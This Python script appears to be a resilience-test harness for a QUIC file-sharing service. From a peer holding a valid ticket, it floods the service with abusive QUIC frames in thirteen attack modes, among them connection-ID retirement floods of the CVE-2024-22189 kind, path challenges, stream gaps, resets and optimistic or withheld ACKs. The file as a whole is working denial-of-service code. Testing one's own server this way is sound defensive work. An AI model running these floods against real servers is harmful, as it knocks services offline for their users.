"""A peer with a valid ticket that floods a share with frames of QUIC itself.

    lawless_flood.py TICKET ATTACK COUNT SECONDS [--burst N]

With --burst, so many packets are made before they are sent, all at once: more than this program could
make while the share reads them. One line with a JSON object: how many frames there were, in how many
packets and seconds, and how it ended.
"""

import argparse
import pathlib
import sys
import time

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1]))

from aioquic.tls import Epoch

from cli.ticket import Ticket
from facts import report
from lawless_talker import Conversation, Victim
from rules import frames
from rules.row import APPLICATION, STAYS_OPEN, Row

# Flows of `web`, which sends back what it gets.
HEADER = b"\x01\x03web"
FLOWS = 64
PIECE = 1000
# Less than the window of a stream is at first.
STREAM_BYTES = 400_000
PACKET = 1100
# Packets in a row before it looks at what comes back, so that the kernel's buffer keeps up.
BURST = 32
# How many packets it claims to have that have not come.
GUESS = 4


def _repeated(one: bytes):
    """The same frame again and again."""
    many = PACKET // len(one)
    while True:
        yield one * many, many


def _retiring(_):
    """Connection IDs of which each retires those before it (CVE-2024-22189's kind)."""
    sequence = 10
    while True:
        yield b"".join(frames.new_connection_id(sequence + n, sequence + n) for n in range(25)), 25
        sequence += 25


def _same_id(quic):
    """One that it has said before, which changes nothing."""
    known = quic._host_cids[1]
    return _repeated(frames.new_connection_id(1, 0, known.cid, known.stateless_reset_token))


def _challenges(_):
    number = 0
    while True:
        yield b"".join(
            frames.path_challenge((number + n).to_bytes(8, "big")) for n in range(100)), 100
        number += 100


def _gaps(_, offset_max: int = 500_000):
    """One byte in two, of stream after stream, as far as its window goes."""
    flow, offset = 1, 1
    while True:
        pieces = []
        for _ in range(100):
            pieces.append(frames.stream(4 * flow, b"x", offset))
            offset += 2
        yield b"".join(pieces), len(pieces)
        if offset > offset_max:
            flow, offset = flow + 1, 1


def _holes(quic):
    """The same with fewer gaps in a stream than what ends the connection (5000)."""
    return _gaps(quic, 8_000)


def _pings(_):
    return _repeated(frames.PING)


def _windows(_):
    """MAX_DATA and MAX_STREAM_DATA that raise nothing."""
    return _repeated(frames.max_data(1) + frames.max_stream_data(0, 1))


def _empty(_):
    """Packets that are as small as they may be."""
    while True:
        yield frames.PING, 1


def _resets(_):
    flow = 1
    while True:
        pieces = [
            frames.stream(4 * (flow + n), HEADER) + frames.reset_stream(4 * (flow + n), len(HEADER))
            for n in range(40)]
        yield b"".join(pieces), 40
        flow += 40


def _datagrams(_):
    number = 0
    while True:
        yield frames.datagram(frames.varint(number) + b"\x00\x00" + b"x" * 900), 1
        number += 1


def _uploads(quic):
    """Bytes that come back, as many as the share takes, to somebody who takes nothing."""
    sent, first = 0, 1
    while True:
        for offset in range(0, STREAM_BYTES, PIECE):
            for flow in range(first, first + FLOWS):
                while sent + PIECE > quic._remote_max_data:
                    yield frames.PING, 0
                data = HEADER + bytes(PIECE - len(HEADER)) if offset == 0 else bytes(PIECE)
                yield frames.stream(4 * flow, data, offset), 1
                sent += PIECE
        first += FLOWS


ATTACKS = {
    "retired-ids": _retiring, "same-id": _same_id, "challenges": _challenges, "gaps": _gaps,
    "holes": _holes, "pings": _pings, "windows": _windows, "empty": _empty,
    "resets": _resets, "frames": _datagrams, "no-acks": _uploads, "optimistic-acks": _uploads,
    "no-window": _uploads,
}


def _acknowledge(dialler, attack: str) -> None:
    quic = dialler.quic
    if attack == "optimistic-acks":
        # What has come, and what may be on its way.
        last = quic._spaces[Epoch.ONE_RTT].expected_packet_number + GUESS
        dialler.send(quic.packet(APPLICATION, frames.ack(last, last)))
    elif attack != "no-acks":
        dialler.flush()


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("ticket", type=Ticket.parse)
    parser.add_argument("attack", choices=ATTACKS)
    parser.add_argument("count", type=int)
    parser.add_argument("seconds", type=float)
    parser.add_argument("--burst", type=int, default=0, metavar="N")
    options = parser.parse_args()
    ticket = options.ticket
    victim = Victim(ticket.udp_port, "qtun/1", ticket.identity, ticket.capability)
    # Enough for a WELCOME, on each stream that it opens.
    row = Row("", "", STAYS_OPEN, parameters={0x05: frames.varint(200)})
    with victim.dial(row if options.attack == "no-window" else None) as dialler:
        quic = dialler.quic
        conversation = Conversation(victim, dialler)
        if not (conversation.begin() and conversation.greet()):
            report(count=0, milliseconds=0, outcome="no session")
            return
        started, count, packets = time.monotonic(), 0, 0
        attack = ATTACKS[options.attack](quic)
        burst = options.burst or BURST
        waiting: list[bytes] = []
        while time.monotonic() - started < options.seconds and quic.outcome is None:
            payload, number = next(attack)
            waiting.append(quic.packet(APPLICATION, payload))
            count += number
            packets += 1
            if options.burst == 0 or len(waiting) == burst or number == 0:
                for packet in waiting:
                    dialler.send(packet)
                waiting.clear()
            if packets % burst == 0 or number == 0:
                dialler.receive(0.05 if number == 0 else 0.001)
                _acknowledge(dialler, options.attack)
            if count >= options.count:
                break
        took = time.monotonic() - started
        report(
            count=count, packets=packets, milliseconds=round(took * 1000), outcome=quic.outcome or "open",
            open=quic.outcome is None, unsent=0)


if __name__ == "__main__":
    main()
